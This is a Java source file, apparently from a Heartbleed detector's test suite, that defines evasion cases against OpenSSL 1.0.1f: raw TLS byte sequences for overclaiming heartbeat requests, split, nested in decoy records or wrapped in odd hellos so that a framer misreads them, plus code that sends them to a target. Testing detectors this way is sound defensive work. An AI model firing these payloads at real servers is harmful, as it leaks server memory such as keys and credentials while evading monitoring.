package io.heartguard.evasion;

import static io.heartguard.evasion.AttackBytes.ALERT;
import static io.heartguard.evasion.AttackBytes.APPLICATION_DATA;
import static io.heartguard.evasion.AttackBytes.CHANGE_CIPHER_SPEC;
import static io.heartguard.evasion.AttackBytes.CLAIM;
import static io.heartguard.evasion.AttackBytes.HANDSHAKE;
import static io.heartguard.evasion.AttackBytes.HEARTBEAT;
import static io.heartguard.evasion.AttackBytes.LARGEST_HONEST_PAYLOAD;
import static io.heartguard.evasion.AttackBytes.clientHello;
import static io.heartguard.evasion.AttackBytes.clientHelloMessage;
import static io.heartguard.evasion.AttackBytes.concat;
import static io.heartguard.evasion.AttackBytes.heartbleed;
import static io.heartguard.evasion.AttackBytes.heartbleedMessage;
import static io.heartguard.evasion.AttackBytes.honest;
import static io.heartguard.evasion.AttackBytes.honestMessage;
import static io.heartguard.evasion.AttackBytes.record;
import static io.heartguard.evasion.AttackBytes.sslv2ClientHello;

import io.heartguard.wire.Bytes;
import io.heartguard.wire.heartbeat.HeartbeatMessage;
import io.heartguard.wire.record.ProtocolVersion;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * One evasion case against a plaintext (pre-handshake) 1.0.1f server: the bytes that open the connection, then,
 * once the server's first flight is in, the pieces written one flushed write each with {@code gap} between them.
 *
 * @param name the case's name in test reports and in docs/EVASION.md
 * @param does what the attacker does, in one line
 * @param realOpenSsl what real 1.0.1f does with it, observed: it leaks, or it refuses the bytes and leaks nothing
 */
record Attack(String name, String does, byte[] opening, List<byte[]> pieces, Duration gap, OnRealOpenSsl realOpenSsl) {
  /** What a real 1.0.1f does with the case: leaks memory, or refuses or skips the bytes so that nothing leaks. */
  enum OnRealOpenSsl { LEAKS, REFUSES }

  /** A run of the case: what came back, and both byte streams for a capture. */
  record Run(AttackClient.Outcome outcome, List<AttackClient.Segment> segments) {}

  @Override
  public String toString() {
    return name;
  }

  Run runAgainst(InetSocketAddress target) throws IOException {
    try (AttackClient client = AttackClient.connect(target)) {
      client.send(opening);
      client.readServerFlight();
      for (int i = 0; i < pieces.size(); i++) {
        if (i > 0 && !gap.isZero()) {
          AttackClient.pause(gap);
        }
        client.send(pieces.get(i));
      }
      AttackClient.Outcome outcome = client.finish();
      return new Run(outcome, client.segments());
    }
  }

  /**
   * An attack with a decoy that runs past its record. 1.0.1f reads the attack 18 0303 000b | 01 3f00 (claims 16128) |
   * 18 0302 3f13 01 3f00, then a well-formed heartbeat response of 16144 bytes, which it ignores (no heartbeat of its
   * own is pending). A framer that starts 8 bytes in reads one well-formed request 18 0302 3f13 | 01 3f00 | 16128
   * bytes of payload, 16 of padding, whose payload_length is exactly the leaking answer's. {@link #DECOYED_ATTACK}'s
   * first 8 bytes go with the hello, {@link #DECOY_REST} is the next write.
   */
  private static final int DECOY_CLAIM = 0x3f00;
  private static final byte[] DECOYED_ATTACK = record(HEARTBEAT, concat(heartbleedMessage(DECOY_CLAIM),
      new byte[] {HEARTBEAT, 3, 2, (byte) ((3 + DECOY_CLAIM + 16) >>> 8), (byte) (3 + DECOY_CLAIM + 16)},
      heartbleedMessage(DECOY_CLAIM)));
  private static final byte[] DECOY_REST = concat(Arrays.copyOfRange(DECOYED_ATTACK, 8, DECOYED_ATTACK.length),
      record(HEARTBEAT, HeartbeatMessage.response(Bytes.repeat('R', DECOY_CLAIM - 8), Bytes.repeat(0, 16))
          .toByteArray()));

  /** Between the pieces of a split case: long enough for each piece to arrive as its own segment and read. */
  private static final Duration SPLIT_GAP = Duration.ofMillis(20);

  private static Attack afterHello(String name, String does, OnRealOpenSsl real, byte[]... pieces) {
    return new Attack(name, does, clientHello(), List.of(pieces), Duration.ZERO, real);
  }

  /** Every case, in the order of docs/EVASION.md. */
  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    all.add(afterHello("heartbleed_before_handshake_completes",
        "the classic: ClientHello, then a 3-byte heartbeat claiming 16384 bytes", OnRealOpenSsl.LEAKS,
        heartbleed(CLAIM)));

    // SSLv2-compatible hellos: ssl23_get_client_hello takes the 2-byte header, then reads TLS records.
    all.add(new Attack("sslv2_hello_then_heartbleed",
        "SSLv2-compatible ClientHello (2-byte header, TLS 1.2), then the classic request",
        sslv2ClientHello(ProtocolVersion.TLS1_2), List.of(heartbleed(CLAIM)), Duration.ZERO, OnRealOpenSsl.LEAKS));
    all.add(new Attack("sslv2_tls10_hello_then_heartbleed",
        "SSLv2-compatible ClientHello offering TLS 1.0, then the classic request in a TLS 1.0 record",
        sslv2ClientHello(ProtocolVersion.TLS1_0),
        List.of(record(HEARTBEAT, ProtocolVersion.TLS1_0.code(), heartbleedMessage(CLAIM))), Duration.ZERO,
        OnRealOpenSsl.LEAKS));
    all.add(new Attack("sslv2_hello_and_heartbleed_in_one_write",
        "SSLv2-compatible ClientHello and the classic request in the same write",
        concat(sslv2ClientHello(ProtocolVersion.TLS1_2), heartbleed(CLAIM)), List.of(), Duration.ZERO,
        OnRealOpenSsl.LEAKS));
    // The outer record 18 0303 001e | 01 4000 | <27-byte decoy> is the attack to 1.0.1f. Its header and first
    // three bytes go out with the hello; the decoy, a well-formed heartbeat record of its own (18 0302 0016 |
    // 01 0003 "ABC" + 16 bytes of padding), is the next write: a framer that starts at that write sees only it.
    byte[] decoy = record(HEARTBEAT, ProtocolVersion.TLS1_1.code(), honestMessage(3, 'A'));
    byte[] outer = record(HEARTBEAT, concat(heartbleedMessage(CLAIM), decoy));
    all.add(new Attack("sslv2_hello_then_decoy_heartbeat_inside_attack",
        "SSLv2-compatible ClientHello plus the first 8 bytes of an overclaiming heartbeat record; the record's"
            + " rest, written next, is itself a well-formed heartbeat record",
        concat(sslv2ClientHello(ProtocolVersion.TLS1_2), Arrays.copyOf(outer, 8)),
        List.of(Arrays.copyOfRange(outer, 8, outer.length)), SPLIT_GAP, OnRealOpenSsl.LEAKS));
    // The same, with a decoy that runs past the attack record's end. 1.0.1f reads: the attack 18 0303 000b |
    // 01 3f00 (claims 16128) | 18 0302 3f13 01 3f00, then a well-formed heartbeat response of 16144 bytes, which it
    // ignores (no heartbeat of its own is pending). A framer that starts at the second write reads one well-formed
    // request 18 0302 3f13 | 01 3f00 | 16128 bytes of payload, 16 of padding, whose payload_length is exactly the
    // leaking answer's.
    all.add(new Attack("sslv2_hello_then_decoy_heartbeat_across_records",
        "SSLv2-compatible ClientHello plus the first 8 bytes of an 11-byte heartbeat record claiming 16128; next write:"
            + " its rest, then a heartbeat response 1.0.1f ignores. Framed from that write: one well-formed request"
            + " declaring 16128",
        concat(sslv2ClientHello(ProtocolVersion.TLS1_2), Arrays.copyOf(DECOYED_ATTACK, 8)), List.of(DECOY_REST),
        SPLIT_GAP, OnRealOpenSsl.LEAKS));

    // Records under 3 bytes: tls1_process_heartbeat reads type and payload_length without checking the record's
    // length, so payload_length comes from what the previous record left in the read buffer: here an honest
    // request of the largest size, whose payload_length is 16365. A 0-byte record is dropped before that
    // (ssl3_get_record: "just read a 0 length packet").
    for (int length = 0; length <= 2; length++) {
      byte[] shortRecord = record(HEARTBEAT, Arrays.copyOf(heartbleedMessage(CLAIM), length));
      all.add(afterHello("heartbeat_record_of_" + length + "_bytes_between_honest_requests",
          "an honest 16365-byte request, a " + length + "-byte heartbeat record, another honest request",
          length == 0 ? OnRealOpenSsl.REFUSES : OnRealOpenSsl.LEAKS,
          concat(honest(LARGEST_HONEST_PAYLOAD, 'A'), shortRecord, honest(LARGEST_HONEST_PAYLOAD, 'B'))));
    }

    all.add(afterHello("empty_change_cipher_spec_then_heartbleed",
        "a 0-byte ChangeCipherSpec record (1.0.1f drops it), then the classic request in plaintext",
        OnRealOpenSsl.LEAKS, concat(record(CHANGE_CIPHER_SPEC, new byte[0]), heartbleed(CLAIM))));

    byte[] hello = clientHelloMessage();
    all.add(new Attack("heartbleed_between_client_hello_fragments",
        "the ClientHello in two handshake records with the classic request between them",
        concat(record(HANDSHAKE, Arrays.copyOf(hello, 40)), heartbleed(CLAIM),
            record(HANDSHAKE, Arrays.copyOfRange(hello, 40, hello.length))),
        List.of(), Duration.ZERO, OnRealOpenSsl.LEAKS));

    // ssl23_get_client_hello checks only the major version of the first record; later records must carry the
    // negotiated version exactly (ssl3_get_record), so only the first record can be odd.
    for (int version : new int[] {0x0300, 0x0304, 0x03ff}) {
      all.add(new Attack(String.format("first_record_version_%04x_then_heartbleed", version),
          String.format("ClientHello in a record of version 0x%04x, the classic request in the same write", version),
          concat(clientHello(version), heartbleed(CLAIM)), List.of(), Duration.ZERO, OnRealOpenSsl.LEAKS));
    }

    all.add(new Attack("first_record_version_03ff_then_decoy_heartbeat_across_records",
        "ClientHello in a record of version 0x03ff plus the first 8 bytes of an 11-byte heartbeat record claiming"
            + " 16128; next write: its rest, then a heartbeat response 1.0.1f ignores. Framed from that write: one"
            + " well-formed request declaring 16128",
        concat(clientHello(0x03ff), Arrays.copyOf(DECOYED_ATTACK, 8)), List.of(DECOY_REST), SPLIT_GAP,
        OnRealOpenSsl.LEAKS));

    int ssl3 = ProtocolVersion.SSL3_0.code();
    all.add(new Attack("sslv3_session_then_heartbleed",
        "a ClientHello offering only SSL 3.0 (heartbeat extension included), then the classic request in an SSL 3.0"
            + " record: 1.0.1f answers heartbeats whatever the version",
        record(HANDSHAKE, ssl3, AttackBytes.clientHelloMessage(ProtocolVersion.SSL3_0)),
        List.of(record(HEARTBEAT, ssl3, heartbleedMessage(CLAIM))), Duration.ZERO, OnRealOpenSsl.LEAKS));

    all.add(afterHello("zero_length_records_then_heartbleed",
        "empty application_data, handshake and alert records, then the classic request", OnRealOpenSsl.LEAKS,
        concat(record(APPLICATION_DATA, new byte[0]), record(HANDSHAKE, new byte[0]), record(ALERT, new byte[0]),
            heartbleed(CLAIM))));

    all.add(new Attack("heartbleed_before_client_hello",
        "the classic request as the very first record, the ClientHello after it",
        concat(heartbleed(CLAIM), clientHello()), List.of(), Duration.ZERO, OnRealOpenSsl.REFUSES));
    all.add(afterHello("heartbleed_after_change_cipher_spec",
        "a ChangeCipherSpec (01) before any key exchange, then the classic request in plaintext",
        OnRealOpenSsl.REFUSES, concat(record(CHANGE_CIPHER_SPEC, new byte[] {1}), heartbleed(CLAIM))));

    byte[] attack = heartbleed(CLAIM);
    all.add(new Attack("heartbleed_split_across_record_header",
        "the classic request in four writes cut inside its header (1 + 2 + 3 + 2 bytes), 20 ms apart",
        clientHello(), List.of(Arrays.copyOfRange(attack, 0, 1), Arrays.copyOfRange(attack, 1, 3),
            Arrays.copyOfRange(attack, 3, 6), Arrays.copyOfRange(attack, 6, 8)), SPLIT_GAP, OnRealOpenSsl.LEAKS));
    List<byte[]> bytes = new ArrayList<>();
    for (byte b : attack) {
      bytes.add(new byte[] {b});
    }
    all.add(new Attack("heartbleed_byte_by_byte", "the classic request one byte per write, 20 ms apart",
        clientHello(), bytes, SPLIT_GAP, OnRealOpenSsl.LEAKS));
    return List.copyOf(all);
  }
}
